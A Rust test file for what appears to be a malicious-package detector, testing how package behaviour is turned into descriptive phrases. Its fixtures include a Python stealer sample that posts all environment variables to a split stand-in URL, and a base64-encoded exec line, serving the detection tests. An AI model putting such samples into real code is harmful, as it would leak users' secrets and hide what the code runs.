//! Readings: the published vocabulary, and what each part of the analysis is worth when it is left out.

use cerebro::behavior::{Part, Reading, Vocabulary, compose, extract};
use cerebro::package::{Package, Phase};

use super::{entry, npm, package, pypi};

fn text(package: &Package, reading: &Reading) -> String {
    compose(package, &extract(package, reading).sequence, reading).text
}

fn without(part: Part) -> Reading {
    Reading { without: [part].into(), ..Reading::default() }
}

fn paper() -> Reading {
    Reading { vocabulary: Vocabulary::Paper, ..Reading::default() }
}

const STEALER: &str = "import os, requests\ndef collect():\n    return dict(os.environ)\nrequests.post('https://x' + '.example/a', json=collect())\n";

#[test]
fn the_published_vocabulary_writes_phrases_entry_by_entry() {
    let files = [("a.py", "import os\nimport sys\nimport os\nos.system('ls')\n"), ("b.py", "import base64\n")];
    let entries = vec![entry(Phase::Install, "setup.py", 0), entry(Phase::Import, "import b", 1)];
    let package = package(cerebro::package::Ecosystem::Pypi, &files, entries);
    assert_eq!(
        text(&package, &paper()),
        "start entry install, import operating system module, use process module call, end of entry, \
         start entry import, import encoding module, end of entry"
    );
}

#[test]
fn pieces_of_the_published_text_speak_for_its_steps() {
    let package = pypi(&[("a.py", STEALER)]);
    let sequence = extract(&package, &paper()).sequence;
    let text = compose(&package, &sequence, &paper());
    for piece in &text.pieces {
        let phrase = &text.text[piece.range.clone()];
        assert!(piece.steps.iter().all(|step| sequence.steps[*step].feature.phrase() == phrase), "{phrase}");
    }
    let told: usize = text.pieces.iter().map(|piece| piece.steps.len()).sum();
    assert_eq!(told, sequence.steps.iter().filter(|step| step.feature.is_published()).count());
}

#[test]
fn without_facts_the_text_begins_with_the_first_phase() {
    let package = pypi(&[("a.py", STEALER)]);
    assert!(text(&package, &Reading::default()).starts_with("facts "));
    assert!(text(&package, &without(Part::Facts)).starts_with("import "));
}

#[test]
fn without_order_the_words_are_the_same_by_the_alphabet() {
    let package = npm(&[("a.js", "require('fs').readFileSync('a');require('os').hostname()")]);
    let words = |reading: &Reading| {
        let composed = compose(&package, &extract(&package, reading).sequence, reading);
        let piece = |p: &cerebro::behavior::Piece| composed.text[p.range.clone()].to_owned();
        composed.pieces.iter().filter(|p| !p.steps.is_empty()).map(piece).collect::<Vec<_>>()
    };
    let (with, sorted) = (words(&Reading::default()), words(&without(Part::Order)));
    assert_ne!(with, sorted);
    let mut expected = with;
    expected.sort();
    assert_eq!(sorted, expected);
}

#[test]
fn without_the_call_graph_a_function_is_walked_by_itself() {
    let package = pypi(&[("a.py", "import os\ndef f():\n    os.system('ls')\nf()\n")]);
    let phase = |reading: &Reading| {
        let steps = extract(&package, reading).sequence.steps;
        steps.iter().find(|s| s.feature.code() == "P2").unwrap().phase
    };
    assert_eq!((phase(&Reading::default()), phase(&without(Part::CallGraph))), (Phase::Import, Phase::Run));
}

#[test]
fn without_folding_there_are_no_layers_and_no_joined_addresses() {
    let source = "exec(__import__('base64').b64decode('cHJpbnQoMSk='))\na = 'htt' + 'ps://x.example/a'\n";
    let package = pypi(&[("a.py", source)]);
    let with = extract(&package, &Reading::default()).sequence;
    let plain = extract(&package, &without(Part::Folding)).sequence;
    let tells = |s: &cerebro::behavior::Sequence, code| s.steps.iter().any(|step| step.feature.code() == code);
    assert!(with.layers.len() == 1 && tells(&with, "D3") && tells(&with, "P4"));
    assert!(plain.layers.is_empty() && !tells(&plain, "D3") && tells(&plain, "P4"));
}

#[test]
fn without_flow_nothing_is_said_to_be_sent() {
    let package = pypi(&[("a.py", STEALER)]);
    let tells =
        |reading: &Reading, code| extract(&package, reading).sequence.steps.iter().any(|s| s.feature.code() == code);
    assert!(tells(&Reading::default(), "X11") && tells(&Reading::default(), "D2"));
    assert!(!tells(&without(Part::Flow), "X11") && tells(&without(Part::Flow), "D2"));
}
